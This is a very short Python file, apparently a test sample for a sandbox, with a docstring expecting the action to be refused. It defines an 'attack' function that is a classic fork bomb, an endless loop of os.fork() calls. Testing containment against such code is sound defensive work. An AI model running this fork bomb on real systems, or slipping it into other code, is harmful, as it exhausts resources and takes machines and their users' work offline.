"""Starts processes that start processes.

Refused: Operation not permitted
"""

import os


def attack(bait):
    while True:
        os.fork()
